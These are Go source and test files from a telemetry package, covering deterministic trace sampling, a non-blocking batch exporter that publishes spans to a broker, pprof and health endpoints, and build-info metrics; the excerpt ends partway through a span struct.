		s.threshold = ^uint64(0)
	} else {
		s.threshold = uint64(rate * float64(1<<63) * 2)
	}
	for _, o := range opts {
		o(s)
	}
	return s
}

// Rate reports the configured sampling rate (1 on a nil sampler).
func (s *Sampler) Rate() float64 {
	if s == nil {
		return 1
	}
	return s.rate
}

// hashKeep is the deterministic verdict for a trace ID. FNV-1a alone
// avalanches poorly into the high bits for short, similar IDs (exactly
// what trace IDs are), so the sum runs through a splitmix64 finalizer
// before the threshold compare.
func (s *Sampler) hashKeep(traceID string) bool {
	if s.rate >= 1 {
		return true
	}
	if s.rate <= 0 {
		return false
	}
	h := fnv.New64a()
	h.Write([]byte(traceID))
	return mix64(h.Sum64()) < s.threshold
}

func mix64(x uint64) uint64 {
	x ^= x >> 30
	x *= 0xbf58476d1ce4e5b9
	x ^= x >> 27
	x *= 0x94d049bb133111eb
	x ^= x >> 31
	return x
}

// Decide makes (and counts) the root decision for a new trace — the
// client-side entry point, called once per submission. The verdict is
// the deterministic hash unless a propagated decision was noted first.
func (s *Sampler) Decide(traceID string) Decision {
	if s == nil || traceID == "" {
		return DecisionKeep
	}
	d := s.lookup(traceID)
	if d == DecisionUnknown {
		if s.hashKeep(traceID) {
			d = DecisionKeep
		} else {
			d = DecisionDrop
		}
	}
	if d == DecisionKeep {
		s.sampled.Add(1)
		s.mSampled.Inc()
	} else {
		s.dropped.Add(1)
		s.mDropped.Inc()
	}
	return d
}

// Note records a decision propagated from another process (header or
// job envelope) so this process's spans for the trace follow the
// originator's verdict even if the local rate differs. Unknown
// decisions and empty IDs are ignored. The table is bounded; evicted
// traces fall back to the hash, which agrees whenever rates match.
func (s *Sampler) Note(traceID string, d Decision) {
	if s == nil || traceID == "" || d == DecisionUnknown {
		return
	}
	s.mu.Lock()
	if _, ok := s.override[traceID]; !ok {
		if old := s.ring[s.next]; old != "" {
			delete(s.override, old)
		}
		s.ring[s.next] = traceID
		s.next = (s.next + 1) % len(s.ring)
	}
	s.override[traceID] = d
	s.mu.Unlock()
}

func (s *Sampler) lookup(traceID string) Decision {
	s.mu.Lock()
	d := s.override[traceID]
	s.mu.Unlock()
	return d
}

// Keep reports whether the trace's spans should be exported: the noted
// decision when one was propagated, the deterministic hash otherwise.
// Nil sampler and empty trace IDs keep everything.
func (s *Sampler) Keep(traceID string) bool {
	if s == nil || traceID == "" {
		return true
	}
	switch s.lookup(traceID) {
	case DecisionKeep:
		return true
	case DecisionDrop:
		return false
	}
	return s.hashKeep(traceID)
}

// Counts reports the root decisions and filtered spans so far — the
// honest-accounting view the bench harness asserts against.
func (s *Sampler) Counts() (sampled, dropped, spansDropped uint64) {
	if s == nil {
		return 0, 0, 0
	}
	return s.sampled.Load(), s.dropped.Load(), s.spansDropped.Load()
}

// SpanSink wraps an export sink (Exporter.ExportSpan) with the keep
// filter: spans of unsampled traces are counted and discarded before
// they cost export-queue space or broker bandwidth. A nil sampler
// returns next unchanged.
func (s *Sampler) SpanSink(next func(SpanData)) func(SpanData) {
	if s == nil || next == nil {
		return next
	}
	return func(d SpanData) {
		if !s.Keep(d.TraceID) {
			s.spansDropped.Add(1)
			s.mSpansDropped.Inc()
			return
		}
		next(d)
	}
}
