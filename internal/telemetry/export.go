package telemetry

import (
	"context"
	"encoding/json"
	"sync"
	"sync/atomic"
	"time"

	"rai/internal/clock"
)

// The exporter is the shipping half of the centralized observability
// pipeline: every daemon hands finished spans and log events to an
// Exporter, which batches them and publishes each batch over the broker
// on the rai.telemetry route, where the collector persists them.
//
// Design constraints, in order:
//
//  1. Never block the hot path. Enqueue is a non-blocking channel send;
//     when the buffer is full the record is counted and dropped.
//     Telemetry loss is always preferable to job latency.
//  2. Bounded memory. One fixed-capacity channel plus one in-progress
//     batch.
//  3. Deterministic under the virtual clock. The flush ticker runs on
//     clock.Clock, so simulations flush on simulated time.

// Batch is the wire unit published on the telemetry topic: one
// service's spans and events accumulated over a flush window.
type Batch struct {
	Service string     `json:"service"`
	Spans   []SpanData `json:"spans,omitempty"`
	Events  []Event    `json:"events,omitempty"`
}

// Encode marshals the batch for the broker.
func (b *Batch) Encode() []byte {
	raw, err := json.Marshal(b)
	if err != nil {
		// All batch contents are plain data types; failure here is a
		// programmer error.
		panic("telemetry: encoding batch: " + err.Error())
	}
	return raw
}

// DecodeBatch unmarshals a batch published by Encode.
func DecodeBatch(raw []byte) (*Batch, error) {
	var b Batch
	if err := json.Unmarshal(raw, &b); err != nil {
		return nil, err
	}
	return &b, nil
}

// ShipFunc delivers one encoded batch to the fabric — in deployments, a
// broker publish on core.TelemetryTopic. Errors are counted, not
// retried: the underlying transports carry their own retry policies,
// and telemetry is droppable by design.
type ShipFunc func(ctx context.Context, b *Batch) error

// Exporter defaults.
const (
	DefaultExportQueue    = 1024
	DefaultExportBatch    = 64
	DefaultExportInterval = time.Second
	DefaultShipTimeout    = 10 * time.Second
)

type exportRec struct {
	span  *SpanData
	event *Event
}

// Exporter batches spans and events and ships them in the background.
// All methods are safe for concurrent use; ExportSpan and ExportEvent
// never block. A nil *Exporter is valid and drops nothing into nowhere.
type Exporter struct {
	service string
	ship    ShipFunc
	// base parents every ship context. It is the caller's context with
	// cancellation stripped: shutdown paths flush after the process
	// context is canceled, and those final batches must still ship.
	base     context.Context
	clk      clock.Clock
	batch    int
	interval time.Duration
	timeout  time.Duration

	ch      chan exportRec
	flushCh chan chan struct{}
	stop    chan struct{}
	done    chan struct{}
	once    sync.Once
	closed  atomic.Bool

	droppedSpans  atomic.Uint64
	droppedEvents atomic.Uint64
	shippedSpans  atomic.Uint64
	shippedEvents atomic.Uint64
	shipFailures  atomic.Uint64

	// optional registry instruments (mirrors of the atomics above).
	mDropped  map[string]*Counter
	mShipped  map[string]*Counter
	mBatches  *Counter
	mFailures *Counter
}

// ExporterOption configures NewExporter.
type ExporterOption func(*Exporter)

// WithExportClock substitutes the flush-interval time source.
func WithExportClock(c clock.Clock) ExporterOption { return func(e *Exporter) { e.clk = c } }

// WithExportQueue sets the bounded buffer capacity (records admitted
// but not yet batched). Minimum 1.
func WithExportQueue(n int) ExporterOption {
	return func(e *Exporter) {
		if n >= 1 {
			e.ch = make(chan exportRec, n)
		}
	}
}

// WithExportBatch sets how many records trigger an immediate flush.
func WithExportBatch(n int) ExporterOption {
	return func(e *Exporter) {
		if n >= 1 {
			e.batch = n
		}
	}
}

// WithExportInterval sets the flush interval for partial batches.
func WithExportInterval(d time.Duration) ExporterOption {
	return func(e *Exporter) {
		if d > 0 {
			e.interval = d
		}
	}
}

// WithExportShipTimeout bounds each ship call (real time).
func WithExportShipTimeout(d time.Duration) ExporterOption {
	return func(e *Exporter) {
		if d > 0 {
			e.timeout = d
		}
	}
}

// WithExportMetrics mirrors the exporter's internal counters onto reg:
// rai_telemetry_dropped_total / rai_telemetry_shipped_total (labeled by
// kind), rai_telemetry_batches_total, rai_telemetry_ship_failures_total.
func WithExportMetrics(reg *Registry) ExporterOption {
	return func(e *Exporter) {
		if reg == nil {
			return
		}
		e.mDropped = map[string]*Counter{}
		e.mShipped = map[string]*Counter{}
		for _, kind := range []string{"span", "event"} {
			e.mDropped[kind] = reg.Counter("rai_telemetry_dropped_total",
				"telemetry records dropped by the bounded exporter", L("kind", kind))
			e.mShipped[kind] = reg.Counter("rai_telemetry_shipped_total",
				"telemetry records shipped to the collector", L("kind", kind))
		}
		e.mBatches = reg.Counter("rai_telemetry_batches_total", "telemetry batches published")
		e.mFailures = reg.Counter("rai_telemetry_ship_failures_total", "telemetry batches that failed to publish")
	}
}

// NewExporter starts the background flush loop. service names the
// emitting process in every batch. ctx carries the caller's values
// (trace annotations, auth) into every ship call; its cancellation is
// deliberately not inherited — Close/Flush on the shutdown path must
// still publish the final batches. nil ctx is allowed.
func NewExporter(ctx context.Context, service string, ship ShipFunc, opts ...ExporterOption) *Exporter {
	if ctx == nil {
		//lint:ignore ctxbg nil-ctx convenience fallback; there is no caller context to inherit
		ctx = context.Background()
	}
	e := &Exporter{
		service:  service,
		ship:     ship,
		base:     context.WithoutCancel(ctx),
		clk:      clock.Real{},
		batch:    DefaultExportBatch,
		interval: DefaultExportInterval,
		timeout:  DefaultShipTimeout,
		flushCh:  make(chan chan struct{}),
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
	}
	for _, o := range opts {
		o(e)
	}
	if e.ch == nil {
		e.ch = make(chan exportRec, DefaultExportQueue)
	}
	go e.run()
	return e
}

// ExportSpan enqueues a finished span; wired as the tracer's span sink.
// Non-blocking: a full buffer (or closed exporter) counts a drop.
func (e *Exporter) ExportSpan(d SpanData) {
	if e == nil {
		return
	}
	if e.closed.Load() {
		e.drop(&exportRec{span: &d})
		return
	}
	select {
	case e.ch <- exportRec{span: &d}:
	default:
		e.drop(&exportRec{span: &d})
	}
}

// ExportEvent enqueues a log event; wired as the logger's sink.
// Non-blocking, same drop semantics as ExportSpan.
func (e *Exporter) ExportEvent(ev Event) {
	if e == nil {
		return
	}
	if e.closed.Load() {
		e.drop(&exportRec{event: &ev})
		return
	}
	select {
	case e.ch <- exportRec{event: &ev}:
	default:
		e.drop(&exportRec{event: &ev})
	}
}

func (e *Exporter) drop(r *exportRec) {
	if r.span != nil {
		e.droppedSpans.Add(1)
		e.mDropped["span"].Inc() // nil-map lookup yields nil Counter: no-op
		return
	}
	e.droppedEvents.Add(1)
	e.mDropped["event"].Inc()
}

// Dropped reports how many spans and events were discarded because the
// buffer was full — the backpressure signal operators alert on.
func (e *Exporter) Dropped() (spans, events uint64) {
	if e == nil {
		return 0, 0
	}
	return e.droppedSpans.Load(), e.droppedEvents.Load()
}

// Shipped reports how many spans and events made it into published
// batches.
func (e *Exporter) Shipped() (spans, events uint64) {
	if e == nil {
		return 0, 0
	}
	return e.shippedSpans.Load(), e.shippedEvents.Load()
}

// Flush synchronously drains the buffer and publishes any pending
// batch. It is how shutdown paths and tests guarantee nothing is
// sitting in the window.
func (e *Exporter) Flush() {
	if e == nil {
		return
	}
	ack := make(chan struct{})
	select {
	case e.flushCh <- ack:
		<-ack
	case <-e.done:
	}
}

// Close flushes and stops the background loop. Records exported after
// Close are counted as dropped.
func (e *Exporter) Close() {
	if e == nil {
		return
	}
	e.once.Do(func() {
		e.closed.Store(true)
		close(e.stop)
	})
	<-e.done
}

func (e *Exporter) run() {
	defer close(e.done)
	var pending Batch
	pending.Service = e.service
	flushTimer := e.clk.After(e.interval)

	add := func(r exportRec) bool {
		if r.span != nil {
			pending.Spans = append(pending.Spans, *r.span)
		} else if r.event != nil {
			pending.Events = append(pending.Events, *r.event)
		}
		return len(pending.Spans)+len(pending.Events) >= e.batch
	}
	drain := func() {
		for {
			select {
			case r := <-e.ch:
				if add(r) {
					e.publish(&pending)
				}
			default:
				return
			}
		}
	}

	for {
		select {
		case r := <-e.ch:
			if add(r) {
				e.publish(&pending)
			}
		case <-flushTimer:
			e.publish(&pending)
			flushTimer = e.clk.After(e.interval)
		case ack := <-e.flushCh:
			drain()
			e.publish(&pending)
			close(ack)
		case <-e.stop:
			drain()
			e.publish(&pending)
			return
		}
	}
}

// publish ships the pending batch (if non-empty) and resets it.
func (e *Exporter) publish(b *Batch) {
	ns, ne := len(b.Spans), len(b.Events)
	if ns == 0 && ne == 0 {
		return
	}
	out := &Batch{Service: e.service, Spans: b.Spans, Events: b.Events}
	b.Spans, b.Events = nil, nil
	if e.ship == nil {
		return
	}
	ctx, cancel := context.WithTimeout(e.base, e.timeout)
	defer cancel()
	if err := e.ship(ctx, out); err != nil {
		e.shipFailures.Add(1)
		e.mFailures.Inc()
		return
	}
	e.shippedSpans.Add(uint64(ns))
	e.shippedEvents.Add(uint64(ne))
	e.mShipped["span"].Add(float64(ns))
	e.mShipped["event"].Add(float64(ne))
	e.mBatches.Inc()
}
