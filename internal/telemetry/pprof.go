package telemetry

import (
	"net/http"
	"net/http/pprof"
)

// MountPprof registers the net/http/pprof handlers under /debug/pprof/
// on the given mux. It is passed to ServeMetrics when a daemon runs
// with -pprof, so profiling shares the -metrics-addr debug listener and
// is never exposed on the service port.
func MountPprof(mux *http.ServeMux) {
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
}
