package telemetry

import (
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"rai/internal/clock"
)

func TestSpanTreeConnected(t *testing.T) {
	vc := clock.NewVirtual(time.Date(2016, 11, 11, 0, 0, 0, 0, time.UTC))
	tr := NewTracer(64, WithTracerClock(vc))

	root := tr.StartRoot("job")
	enq := root.Child("enqueue")
	vc.Advance(2 * time.Second)
	enq.End()

	// Worker side: continue the trace from propagated IDs.
	deq := tr.StartSpan(root.TraceID(), root.SpanID(), "dequeue")
	vc.Advance(time.Second)
	deq.End()
	build := deq.Child("build")
	build.SetAttr("image", "webgpu/rai:root")
	vc.Advance(30 * time.Second)
	build.SetName("run")
	build.End()
	vc.Advance(time.Second)
	root.End()

	spans := tr.Trace(root.TraceID())
	if len(spans) != 4 {
		t.Fatalf("got %d spans, want 4", len(spans))
	}
	if !Connected(spans) {
		t.Fatalf("span tree not connected: %+v", spans)
	}
	if spans[0].Name != "job" || spans[0].ParentID != "" {
		t.Errorf("first span = %q parent %q, want root job", spans[0].Name, spans[0].ParentID)
	}
	names := map[string]SpanData{}
	for _, d := range spans {
		names[d.Name] = d
	}
	if d := names["run"]; d.Attrs["image"] != "webgpu/rai:root" || d.Duration() != 30*time.Second {
		t.Errorf("run span = %+v", d)
	}
	if names["dequeue"].ParentID != root.SpanID() {
		t.Error("dequeue not parented to propagated root span")
	}
	tree := FormatTree(spans)
	if !strings.Contains(tree, "job") || !strings.Contains(tree, "  run") {
		t.Errorf("FormatTree:\n%s", tree)
	}
}

func TestTracerRingEviction(t *testing.T) {
	tr := NewTracer(2)
	a := tr.StartRoot("a")
	a.End()
	b := tr.StartRoot("b")
	b.End()
	c := tr.StartRoot("c")
	c.End()
	if got := tr.Trace(a.TraceID()); len(got) != 0 {
		t.Errorf("oldest span not evicted: %+v", got)
	}
	if got := tr.Trace(c.TraceID()); len(got) != 1 {
		t.Errorf("newest span missing: %+v", got)
	}
}

func TestNilTracer(t *testing.T) {
	var tr *Tracer
	s := tr.StartRoot("x")
	s.SetAttr("k", "v")
	s.SetName("y")
	c := s.Child("z")
	c.End()
	s.End()
	if s.TraceID() != "" || s.SpanID() != "" {
		t.Error("nil span has IDs")
	}
	if tr.Trace("any") != nil {
		t.Error("nil tracer returned spans")
	}
	if tr.StartSpan("t", "p", "n") != nil {
		t.Error("nil tracer started a span")
	}
}

func TestConnectedDetectsOrphans(t *testing.T) {
	spans := []SpanData{
		{TraceID: "t", SpanID: "1", Name: "root"},
		{TraceID: "t", SpanID: "2", ParentID: "missing", Name: "orphan"},
	}
	if Connected(spans) {
		t.Error("orphan tree reported connected")
	}
	if Connected(nil) {
		t.Error("empty tree reported connected")
	}
	two := []SpanData{
		{TraceID: "t", SpanID: "1", Name: "root"},
		{TraceID: "t", SpanID: "2", Name: "second root"},
	}
	if Connected(two) {
		t.Error("two roots reported connected")
	}
}

func TestTracerConcurrent(t *testing.T) {
	tr := NewTracer(1024)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				root := tr.StartRoot("job")
				c := root.Child("phase")
				c.SetAttr("n", "1")
				c.End()
				root.End()
				tr.Trace(root.TraceID())
			}
		}()
	}
	wg.Wait()
}

func TestMetricsHandler(t *testing.T) {
	r := NewRegistry()
	r.Counter("hits_total", "hits").Inc()
	srv := httptest.NewServer(r.Handler())
	defer srv.Close()
	res, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if ct := res.Header.Get("Content-Type"); !strings.Contains(ct, "version=0.0.4") {
		t.Errorf("Content-Type = %q", ct)
	}
	snap, err := ParseText(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if v, ok := snap.Value("hits_total"); !ok || v != 1 {
		t.Errorf("hits_total = %v,%v", v, ok)
	}
	post, err := srv.Client().Post(srv.URL, "text/plain", strings.NewReader(""))
	if err != nil {
		t.Fatal(err)
	}
	post.Body.Close()
	if post.StatusCode != 405 {
		t.Errorf("POST status = %d, want 405", post.StatusCode)
	}
}
