package telemetry

import (
	"net/http"
	"net/http/httptest"
	"testing"
)

func TestHealthEndpoints(t *testing.T) {
	h := NewHealth()
	mux := http.NewServeMux()
	h.Mount(mux)
	srv := httptest.NewServer(mux)
	defer srv.Close()

	get := func(path string) (int, string) {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		var body [64]byte
		n, _ := resp.Body.Read(body[:])
		resp.Body.Close()
		return resp.StatusCode, string(body[:n])
	}

	// Liveness answers immediately, readiness starts false.
	if code, body := get("/healthz"); code != http.StatusOK || body != "ok\n" {
		t.Errorf("GET /healthz = %d %q before ready", code, body)
	}
	if code, _ := get("/readyz"); code != http.StatusServiceUnavailable {
		t.Errorf("GET /readyz = %d before SetReady, want 503", code)
	}

	h.SetReady(true)
	if code, body := get("/readyz"); code != http.StatusOK || body != "ready\n" {
		t.Errorf("GET /readyz = %d %q when ready", code, body)
	}

	// Drain flips readiness without touching liveness.
	h.SetReady(false)
	if code, body := get("/readyz"); code != http.StatusServiceUnavailable || body != "draining\n" {
		t.Errorf("GET /readyz = %d %q during drain", code, body)
	}
	if code, _ := get("/healthz"); code != http.StatusOK {
		t.Errorf("GET /healthz = %d during drain, want 200", code)
	}

	req, _ := http.NewRequestWithContext(t.Context(), http.MethodPost, srv.URL+"/readyz", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("POST /readyz = %d, want 405", resp.StatusCode)
	}
}

func TestHealthNilSafe(t *testing.T) {
	var h *Health
	h.SetReady(true)
	if h.Ready() {
		t.Error("nil Health must report not ready")
	}
}

func TestServeMetricsMountsHealth(t *testing.T) {
	reg := NewRegistry()
	h := NewHealth()
	h.SetReady(true)
	addr, closeFn, err := reg.ServeMetrics("127.0.0.1:0", h.Mount)
	if err != nil {
		t.Fatal(err)
	}
	defer closeFn()
	resp, err := http.Get("http://" + addr + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /readyz via ServeMetrics = %d", resp.StatusCode)
	}
}
