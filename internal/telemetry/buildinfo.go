package telemetry

import (
	"fmt"
	"runtime"
	"runtime/debug"
	"time"

	"rai/internal/clock"
)

// Stamp identifies exactly what build of a daemon produced a metric or
// a benchmark result. It is what `-version` prints and what
// BENCH_*.json embeds, so two trajectories can be traced back to the
// commits that produced them.
type Stamp struct {
	Service   string `json:"service"`
	Version   string `json:"version"`
	GoVersion string `json:"go_version"`
	VCSRef    string `json:"vcs_ref"`
}

// NewStamp builds a Stamp for the running binary. The VCS ref comes
// from the vcs.revision/vcs.modified build settings that the go tool
// embeds when building inside a repository; outside one it is "unknown".
func NewStamp(service, version string) Stamp {
	s := Stamp{
		Service:   service,
		Version:   version,
		GoVersion: runtime.Version(),
		VCSRef:    "unknown",
	}
	if info, ok := debug.ReadBuildInfo(); ok {
		var rev, modified string
		for _, kv := range info.Settings {
			switch kv.Key {
			case "vcs.revision":
				rev = kv.Value
			case "vcs.modified":
				modified = kv.Value
			}
		}
		if len(rev) > 12 {
			rev = rev[:12]
		}
		if rev != "" {
			s.VCSRef = rev
			if modified == "true" {
				s.VCSRef += "+dirty"
			}
		}
	}
	return s
}

// String renders the stamp the way `-version` prints it.
func (s Stamp) String() string {
	return fmt.Sprintf("%s %s (%s, vcs %s)", s.Service, s.Version, s.GoVersion, s.VCSRef)
}

// RegisterBuildInfo publishes the process identity metrics every daemon
// exposes:
//
//	rai_build_info{service,version,goversion,vcsref} 1
//	rai_process_start_time_seconds <unix seconds>
//
// The build-info value is always 1 — the information is in the labels,
// following the Prometheus *_info convention — and the start time lets
// raiadmin top derive uptime from a plain scrape.
//
// clk supplies the start timestamp; nil uses the wall clock.
func RegisterBuildInfo(r *Registry, service, version string, clk clock.Clock) {
	if r == nil {
		return
	}
	if clk == nil {
		clk = clock.Real{}
	}
	stamp := NewStamp(service, version)
	r.Gauge("rai_build_info",
		"build identity of the process; value is always 1",
		L("service", stamp.Service),
		L("version", stamp.Version),
		L("goversion", stamp.GoVersion),
		L("vcsref", stamp.VCSRef),
	).Set(1)
	start := float64(clk.Now().UnixNano()) / float64(time.Second)
	r.Gauge("rai_process_start_time_seconds",
		"unix time the process registered its metrics, in seconds").Set(start)
}
