package telemetry

import (
	"runtime"
	"time"

	"rai/internal/clock"
)

// RegisterBuildInfo publishes the process identity metrics every daemon
// exposes:
//
//	rai_build_info{service,version,goversion} 1
//	rai_process_start_time_seconds <unix seconds>
//
// The build-info value is always 1 — the information is in the labels,
// following the Prometheus *_info convention — and the start time lets
// raiadmin top derive uptime from a plain scrape.
//
// clk supplies the start timestamp; nil uses the wall clock.
func RegisterBuildInfo(r *Registry, service, version string, clk clock.Clock) {
	if r == nil {
		return
	}
	if clk == nil {
		clk = clock.Real{}
	}
	r.Gauge("rai_build_info",
		"build identity of the process; value is always 1",
		L("service", service),
		L("version", version),
		L("goversion", runtime.Version()),
	).Set(1)
	start := float64(clk.Now().UnixNano()) / float64(time.Second)
	r.Gauge("rai_process_start_time_seconds",
		"unix time the process registered its metrics, in seconds").Set(start)
}
