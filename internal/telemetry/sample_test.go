package telemetry

import (
	"math"
	"net/http"
	"testing"
)

func TestSamplerRateBounds(t *testing.T) {
	all := NewSampler(1)
	none := NewSampler(0)
	for _, id := range []string{"a", "b", "trace-1", "trace-2"} {
		if !all.Keep(id) {
			t.Errorf("rate-1 sampler dropped %q", id)
		}
		if none.Keep(id) {
			t.Errorf("rate-0 sampler kept %q", id)
		}
	}
	if NewSampler(-3).Rate() != 0 || NewSampler(7).Rate() != 1 {
		t.Error("rate not clamped to [0,1]")
	}
}

func TestSamplerDeterministicAndUnbiased(t *testing.T) {
	s1 := NewSampler(0.3)
	s2 := NewSampler(0.3)
	kept := 0
	const n = 10000
	for i := 0; i < n; i++ {
		id := "trace-" + string(rune('a'+i%26)) + "-" + itoa(i)
		if s1.Keep(id) != s2.Keep(id) {
			t.Fatalf("samplers with equal rates disagree on %q", id)
		}
		if s1.Keep(id) {
			kept++
		}
	}
	frac := float64(kept) / n
	// 5σ binomial bound around 0.3.
	if sigma := 5 * math.Sqrt(0.3*0.7/n); math.Abs(frac-0.3) > sigma {
		t.Errorf("kept fraction %.4f deviates from rate 0.3 beyond 5σ (%.4f)", frac, sigma)
	}
}

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b [20]byte
	p := len(b)
	for i > 0 {
		p--
		b[p] = byte('0' + i%10)
		i /= 10
	}
	return string(b[p:])
}

func TestSamplerDecideCounts(t *testing.T) {
	reg := NewRegistry()
	s := NewSampler(0.5, WithSamplerMetrics(reg))
	for i := 0; i < 100; i++ {
		s.Decide("t-" + itoa(i))
	}
	sampled, dropped, _ := s.Counts()
	if sampled+dropped != 100 {
		t.Fatalf("sampled %d + dropped %d != 100 decisions", sampled, dropped)
	}
	if sampled == 0 || dropped == 0 {
		t.Fatalf("rate-0.5 made one-sided decisions: sampled %d dropped %d", sampled, dropped)
	}
	if v, _ := reg.Value("rai_trace_sampled_total"); v != float64(sampled) {
		t.Errorf("rai_trace_sampled_total = %v, want %d", v, sampled)
	}
	if v, _ := reg.Value("rai_trace_dropped_total"); v != float64(dropped) {
		t.Errorf("rai_trace_dropped_total = %v, want %d", v, dropped)
	}
}

func TestSamplerNoteOverridesHash(t *testing.T) {
	s := NewSampler(0) // hash says drop everything
	s.Note("forced", DecisionKeep)
	if !s.Keep("forced") {
		t.Error("noted keep decision ignored")
	}
	if s.Decide("forced") != DecisionKeep {
		t.Error("Decide ignored noted decision")
	}
	k := NewSampler(1) // hash says keep everything
	k.Note("suppressed", DecisionDrop)
	if k.Keep("suppressed") {
		t.Error("noted drop decision ignored")
	}
	// Unknown notes are no-ops.
	k.Note("x", DecisionUnknown)
	if !k.Keep("x") {
		t.Error("unknown note changed the verdict")
	}
}

func TestSamplerOverrideEviction(t *testing.T) {
	s := NewSampler(1)
	for i := 0; i < samplerOverrides+10; i++ {
		s.Note("t-"+itoa(i), DecisionDrop)
	}
	// The oldest notes were evicted; their traces fall back to the hash.
	if !s.Keep("t-0") {
		t.Error("evicted override still applied")
	}
	if s.Keep("t-" + itoa(samplerOverrides+9)) {
		t.Error("recent override lost")
	}
	if len(s.override) > samplerOverrides {
		t.Errorf("override table grew to %d, cap %d", len(s.override), samplerOverrides)
	}
}

func TestSamplerSpanSinkFilters(t *testing.T) {
	reg := NewRegistry()
	s := NewSampler(1, WithSamplerMetrics(reg))
	s.Note("dropme", DecisionDrop)
	var got []SpanData
	sink := s.SpanSink(func(d SpanData) { got = append(got, d) })
	sink(SpanData{TraceID: "keepme", SpanID: "a"})
	sink(SpanData{TraceID: "dropme", SpanID: "b"})
	sink(SpanData{TraceID: "keepme", SpanID: "c"})
	if len(got) != 2 {
		t.Fatalf("sink passed %d spans, want 2", len(got))
	}
	if _, _, spansDropped := s.Counts(); spansDropped != 1 {
		t.Errorf("spansDropped = %d, want 1", spansDropped)
	}
	if v, _ := reg.Value("rai_trace_spans_dropped_total"); v != 1 {
		t.Errorf("rai_trace_spans_dropped_total = %v, want 1", v)
	}
}

func TestSamplerNilSafe(t *testing.T) {
	var s *Sampler
	if !s.Keep("x") || s.Decide("x") != DecisionKeep || s.Rate() != 1 {
		t.Error("nil sampler must keep everything")
	}
	s.Note("x", DecisionDrop)
	next := func(SpanData) {}
	if s.SpanSink(next) == nil {
		t.Error("nil sampler SpanSink must return next unchanged")
	}
}

func TestDecisionWireRoundTrip(t *testing.T) {
	for _, d := range []Decision{DecisionUnknown, DecisionKeep, DecisionDrop} {
		if ParseDecision(d.String()) != d {
			t.Errorf("decision %v does not round-trip through %q", d, d.String())
		}
	}
	if ParseDecision("garbage") != DecisionUnknown {
		t.Error("unrecognized wire form must parse as unknown")
	}
}

func TestSamplingHeaderPropagation(t *testing.T) {
	ctx := ContextWithSpanContext(t.Context(), SpanContext{TraceID: "tr", SpanID: "sp"})
	ctx = ContextWithSampling(ctx, DecisionDrop)
	h := http.Header{}
	InjectHTTP(ctx, h)
	if h.Get(HeaderSampled) != "0" {
		t.Fatalf("X-RAI-Sampled = %q, want 0", h.Get(HeaderSampled))
	}
	sc, _ := ExtractHTTP(h)
	if sc.Sampled != DecisionDrop {
		t.Errorf("extracted decision %v, want drop", sc.Sampled)
	}
	// No decision in ctx → no header.
	h2 := http.Header{}
	InjectHTTP(ContextWithSpanContext(t.Context(), SpanContext{TraceID: "tr", SpanID: "sp"}), h2)
	if h2.Get(HeaderSampled) != "" {
		t.Errorf("unexpected X-RAI-Sampled %q", h2.Get(HeaderSampled))
	}
	if SamplingFrom(ctx) != DecisionDrop {
		t.Error("SamplingFrom lost the decision")
	}
}
