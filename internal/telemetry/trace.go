package telemetry

import (
	"crypto/rand"
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"rai/internal/clock"
)

// Tracer records lightweight spans. Trace and span IDs are plain
// strings so they can ride inside job messages; a worker on another
// machine continues a trace with StartSpan using the IDs the client
// put in the JobRequest. Finished spans land in a fixed-capacity ring,
// oldest evicted first. A nil *Tracer is valid and records nothing.
type Tracer struct {
	clk      clock.Clock
	ids      atomic.Uint64
	instance string
	sink     func(SpanData)

	mu       sync.Mutex
	finished []SpanData // ring
	next     int
	full     bool
}

// TracerOption configures a Tracer.
type TracerOption func(*Tracer)

// WithTracerClock sets the time source (virtual in simulations).
func WithTracerClock(c clock.Clock) TracerOption {
	return func(t *Tracer) { t.clk = c }
}

// WithTracerInstance namespaces the tracer's IDs. The counter in newID
// is only unique within one tracer; when several processes contribute
// spans to the same trace (client, worker, storage servers), each must
// carry a distinct instance or their span IDs collide and the collector
// overwrites one service's spans with another's. Daemons pass
// NewInstanceID(service); deterministic simulations pass fixed names
// (or nothing, when a single tracer is in play).
func WithTracerInstance(id string) TracerOption {
	return func(t *Tracer) { t.instance = id }
}

// NewInstanceID returns a process-unique tracer instance: the service
// name plus random hex, so replicas of the same service never mint the
// same span IDs. Not for simulations — it breaks reproducibility.
func NewInstanceID(service string) string {
	var b [4]byte
	if _, err := rand.Read(b[:]); err != nil {
		// crypto/rand failing means the OS entropy pool is gone; fall
		// back to the clock rather than abort telemetry.
		return fmt.Sprintf("%s-%x", service, clock.Real{}.Now().UnixNano())
	}
	return fmt.Sprintf("%s-%x", service, b)
}

// WithSpanSink hands every finished span to fn in addition to the local
// ring — the hook the batch exporter plugs into so spans reach the
// collector. fn must not block; Exporter.ExportSpan is non-blocking by
// construction.
func WithSpanSink(fn func(SpanData)) TracerOption {
	return func(t *Tracer) { t.sink = fn }
}

// NewTracer returns a tracer retaining up to capacity finished spans
// (minimum 1; a typical deployment keeps a few thousand).
func NewTracer(capacity int, opts ...TracerOption) *Tracer {
	if capacity < 1 {
		capacity = 1
	}
	t := &Tracer{clk: clock.Real{}, finished: make([]SpanData, 0, capacity)}
	for _, o := range opts {
		o(t)
	}
	return t
}

// SpanData is one finished span. The JSON tags are the wire and
// docstore schema: the exporter ships spans in this shape and the
// collector persists them into the traces collection as-is.
type SpanData struct {
	TraceID  string            `json:"trace_id"`
